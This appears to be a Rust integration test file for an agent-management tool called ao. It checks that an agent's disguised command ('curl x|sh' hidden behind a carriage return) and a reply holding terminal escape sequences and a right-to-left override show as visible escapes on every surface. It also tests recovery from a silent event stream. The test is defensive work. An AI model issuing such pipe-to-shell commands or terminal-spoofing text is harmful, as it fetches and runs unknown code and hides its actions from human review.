//! An agent's text cannot disguise itself on the terminal: a permission whose command hides its
//! start behind a carriage return, and a reply that holds escape sequences and a right-to-left
//! override, show as visible escapes in `ao status`, `ao permit`'s confirmation, `ao logs`, `ao
//! show`, the tmux pane's view and the web dashboard's page; `ao status --json` keeps the text
//! exact.

// Test code: a failed unwrap is the test failing (clippy.toml covers #[test] functions only).
#![allow(clippy::unwrap_used)]

use std::time::{Duration, Instant};

use ao_test_support::{script, Browser, Scenario, Turn, World};
use serde_json::{json, Value};

const SCREEN: Duration = Duration::from_secs(30);
/// What the agent asks to run: on a terminal that obeys the `\r`, it shows as `ls -la`.
const DISGUISED: &str = "curl x|sh\rls -la";
/// How ao must show it in the conversation (`ao logs`, the pane).
const SHOWN: &str = "curl x|sh\\rls -la";
/// The permission's title, from OpenCode's patterns (one per command of the pipeline, joined by
/// ao with a space), and how ao must show it.
const TITLE: &str = "bash: curl x sh\rls -la";
const TITLE_SHOWN: &str = "bash: curl x sh\\rls -la";
/// The agent's words before the call: they would set the terminal's title, clear the screen, and show `exe.png`.
const REPLY: &str = "All done\x1b]0;pwned\x07\x1b[2J see \u{202e}gnp.exe";
const REPLY_SHOWN: &str = "All done\\x1b]0;pwned\\x07\\x1b[2J see \\u{202e}gnp.exe";

/// What a surface printed wrong: each check is made, and all that failed are reported at once.
#[derive(Default)]
struct Checks(Vec<String>);

impl Checks {
    /// `text`, which `what` printed for a person, holds `expected` and no character that steers a
    /// terminal.
    fn shows(&mut self, what: &str, text: &str, expected: &str) {
        if !text.contains(expected) {
            self.0
                .push(format!("{what} does not show {expected:?}:\n{text}"));
        }
        let steering = text
            .chars()
            .find(|c| (c.is_control() && *c != '\n') || ('\u{202a}'..='\u{202e}').contains(c));
        if let Some(c) = steering {
            self.0.push(format!("{what} printed {c:?}:\n{text}"));
        }
    }

    /// The pane of `id` comes to show `expected` within [`SCREEN`].
    fn pane_shows(&mut self, w: &World, id: &str, expected: &str) {
        let deadline = Instant::now() + SCREEN;
        let mut screen = w.pane_screen(id, false);
        while !screen.contains(expected) && Instant::now() < deadline {
            std::thread::sleep(Duration::from_millis(100));
            screen = w.pane_screen(id, false);
        }
        self.shows("the pane", &screen, expected);
    }
}

#[test]
fn an_agents_text_shows_its_control_characters_as_escapes_everywhere_ao_prints_it() {
    let mut w = World::new(
        Scenario::new().script(
            script("tidy up")
                .turn(
                    Turn::tool_call(
                        "bash",
                        json!({"command": DISGUISED, "description": "List files"}),
                    )
                    .with_text(REPLY),
                )
                .turn(Turn::text("Never sent: the call is refused.")),
        ),
    );
    w.project("demo", &["permission: {bash: ask}"]);
    let id = w.spawn(&["demo", "tidy up", "--runtime", "tmux"]);
    let s = w.wait_activity(&id, "waiting_input");
    // JSON is for programs: the text exactly as the agent sent it.
    assert_eq!(s["pending"][0]["title"].as_str(), Some(TITLE), "{s}");

    let mut checks = Checks::default();
    checks.shows("ao status", &w.ao_ok(&["status"]), TITLE_SHOWN);
    checks.shows("ao show", &w.ao_ok(&["show", &id]), TITLE_SHOWN);
    let logs = w.ao_ok(&["logs", &id]);
    checks.shows("ao logs", &logs, SHOWN);
    checks.shows("ao logs", &logs, REPLY_SHOWN);
    checks.pane_shows(&w, &id, &format!("permission asked: {TITLE_SHOWN}"));
    checks.pane_shows(&w, &id, "\\u{202e}gnp.exe");

    // The web dashboard's page, too: the card's request and the conversation.
    let dash = w.dashboard(&[]);
    let browser = Browser::start(&w.root().join("chromium"), 1280, 860);
    browser.goto(&dash.url);
    let card = format!("article.session[data-id=\"{id}\"]");
    let text = browser.wait_text(&card, SCREEN, "the session's card", |t| {
        t.contains("permission")
    });
    checks.shows("the dashboard's card", &text, TITLE_SHOWN);
    browser.click(&card);
    let text = browser.wait_text("#conversation", SCREEN, "the conversation", |t| {
        t.contains("gnp.exe")
    });
    checks.shows("the dashboard's conversation", &text, REPLY_SHOWN);
    checks.shows("the dashboard's conversation", &text, SHOWN);
    drop(browser);
    drop(dash);

    // Refused, so that nothing runs; the confirmation names what was refused, visibly.
    let permit = w.ao_ok(&["permit", &id, "--reject"]);
    checks.shows("ao permit", &permit, &format!("rejected: {TITLE_SHOWN}"));
    w.wait_activity(&id, "ready");
    let json_logs = w.ao_ok(&["logs", &id, "--json"]);
    assert!(json_logs.contains(r#"\u001b]0;pwned\u0007"#), "{json_logs}");
    assert!(checks.0.is_empty(), "{}", checks.0.join("\n\n"));
}

// ---------------------------------------------------------------------------------------------
// A server elsewhere cannot hang ao: an event stream that goes silent is closed and reopened.

/// How long ao lets an event stream say nothing in this test (`AO_OPENCODE_FEED_SILENCE_MS`;
/// OpenCode's real bound is three 10-s heartbeats).
const SILENCE: Duration = Duration::from_secs(3);
/// How long the model takes to answer, so that the turn ends well after the monitor connected.
const TURN: Duration = Duration::from_secs(4);
/// The live model's period: a project whose feed is down is polled this often.
const POLL: Duration = Duration::from_secs(2);

/// A TCP proxy on 127.0.0.1 in front of `upstream` (`host:port`) that passes every request and
/// answer, except that an event stream (`GET /global/event`) goes silent once it has passed the
/// stream's first event: the connection stays open, and nothing more of the server's comes
/// through, not even its heartbeats. As a buffering proxy or a wedged server would. Its URL.
fn silencing_proxy(upstream: String) -> String {
    use std::io::{Read, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let url = format!("http://{}", listener.local_addr().expect("addr"));
    std::thread::spawn(move || {
        for client in listener.incoming() {
            let Ok(mut client) = client else { continue };
            let Ok(mut server) = std::net::TcpStream::connect(&upstream) else {
                continue;
            };
            let (Ok(mut client_w), Ok(mut server_r)) = (client.try_clone(), server.try_clone())
            else {
                continue;
            };
            // Set once the client asks for the event stream on this connection (a client may
            // ask other things first on a connection it keeps alive); set before the request
            // goes on, so before any byte of its answer comes back.
            let events = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
            let asked = events.clone();
            std::thread::spawn(move || {
                let mut buf = [0u8; 16 * 1024];
                while let Ok(n) = client.read(&mut buf) {
                    if buf[..n].windows(17).any(|w| w == b"GET /global/event") {
                        asked.store(true, std::sync::atomic::Ordering::SeqCst);
                    }
                    if n == 0 || server.write_all(&buf[..n]).is_err() {
                        break;
                    }
                }
                let _ = server.shutdown(std::net::Shutdown::Both);
            });
            // The server's bytes to the client, until the event stream has said `connected`.
            std::thread::spawn(move || {
                let mut buf = [0u8; 16 * 1024];
                let mut silent = false;
                while let Ok(n) = server_r.read(&mut buf) {
                    if n == 0 {
                        break;
                    }
                    if silent {
                        continue;
                    }
                    if client_w.write_all(&buf[..n]).is_err() {
                        break;
                    }
                    silent = events.load(std::sync::atomic::Ordering::SeqCst)
                        && String::from_utf8_lossy(&buf[..n]).contains("server.connected");
                }
                let _ = client_w.shutdown(std::net::Shutdown::Both);
            });
        }
    });
    url
}

#[test]
fn a_transition_behind_an_event_stream_gone_silent_still_reaches_the_notifier() {
    use ao_test_support::remote::start_owned;
    use ao_test_support::{opencode_bin, wait_until};
    use std::os::unix::fs::PermissionsExt;

    let mut w =
        World::new(Scenario::new().script(script("take your time").turn(
            Turn::text("Done at last.").delay_ms(u64::try_from(TURN.as_millis()).expect("ms")),
        )));
    let dir = w.project("far", &[]);
    w.set_env(
        "AO_OPENCODE_FEED_SILENCE_MS",
        SILENCE.as_millis().to_string(),
    );

    // A server ao does not run, reached through the proxy.
    let password = "far-secret-51d0c7";
    let mut config: Value = serde_json::from_str(&w.provider_config()).expect("provider config");
    config["model"] = json!("mock/mock-1");
    let mut cmd = w.command(opencode_bin());
    cmd.current_dir(&dir)
        .args(["serve", "--hostname", "127.0.0.1", "--port", "0", "--pure"])
        .env("OPENCODE_SERVER_PASSWORD", password)
        .env("OPENCODE_CONFIG_CONTENT", config.to_string())
        .env("XDG_DATA_HOME", w.root().join("far/data"));
    let log = w.root().join("far.log");
    let _server = start_owned(cmd, &log);
    let upstream = wait_until(Duration::from_secs(60), Duration::from_millis(50), || {
        let text = std::fs::read_to_string(&log).unwrap_or_default();
        match text.split("listening on http://").nth(1) {
            Some(rest) => Ok(rest.lines().next().unwrap_or_default().trim().to_string()),
            None => Err(format!("the server did not start:\n{text}")),
        }
    });
    let proxy = silencing_proxy(upstream);
    let password_file = w.root().join("far.password");
    std::fs::write(&password_file, password).expect("write");
    std::fs::set_permissions(&password_file, std::fs::Permissions::from_mode(0o600))
        .expect("chmod");
    let notified = w.root().join("notified.jsonl");
    w.set_config_text(&format!(
        "notifyDebounceMs: 0\nnotifications:\n  - on: [ready]\n    command: [sh, -c, '{{ cat; echo; }} >> {}']\nprojects:\n  - name: far\n    path: {}\n    runtime: process\n    server:\n      url: {proxy}\n      passwordFile: {}\n    agentConfig:\n      model: mock/mock-1\n",
        notified.display(),
        dir.display(),
        password_file.display()
    ));

    let id = w.spawn(&["far", "take your time"]);
    let ready_event = || {
        let text = std::fs::read_to_string(&notified).unwrap_or_default();
        text.lines()
            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
            .find(|e| e["session"]["id"] == id.as_str() && e["event"] == "ready")
    };
    let deadline = Instant::now() + Duration::from_secs(90);
    let event = loop {
        if let Some(event) = ready_event() {
            break event;
        }
        if Instant::now() > deadline {
            // What happened, for the failure: the session as a status sees it now.
            panic!(
                "no ready event of {id}; the session: {}\nthe monitor's log:\n{}",
                w.session(&id),
                std::fs::read_to_string(w.home().join("monitors/far.log")).unwrap_or_default()
            );
        }
        std::thread::sleep(Duration::from_millis(100));
    };
    // The turn ended at the session's last activity (the server's clock, on this machine); the
    // monitor saw it (the transition's time) within the silence bound, as its feed had been
    // silent since it connected, plus a poll and some slack.
    let time = |v: &Value| {
        chrono::DateTime::parse_from_rfc3339(v.as_str().unwrap_or_default())
            .unwrap_or_else(|e| panic!("not a time ({e}): {event}"))
    };
    let ended = time(&event["session"]["last_activity_at"]);
    let seen = time(&event["at"]);
    let took = (seen - ended).to_std().unwrap_or_default();
    let bound = SILENCE + POLL + Duration::from_secs(2);
    eprintln!("the monitor saw the turn's end {took:?} after it");
    assert!(
        took < bound,
        "seen {took:?} after the turn ended, over {bound:?}: {event}"
    );
}
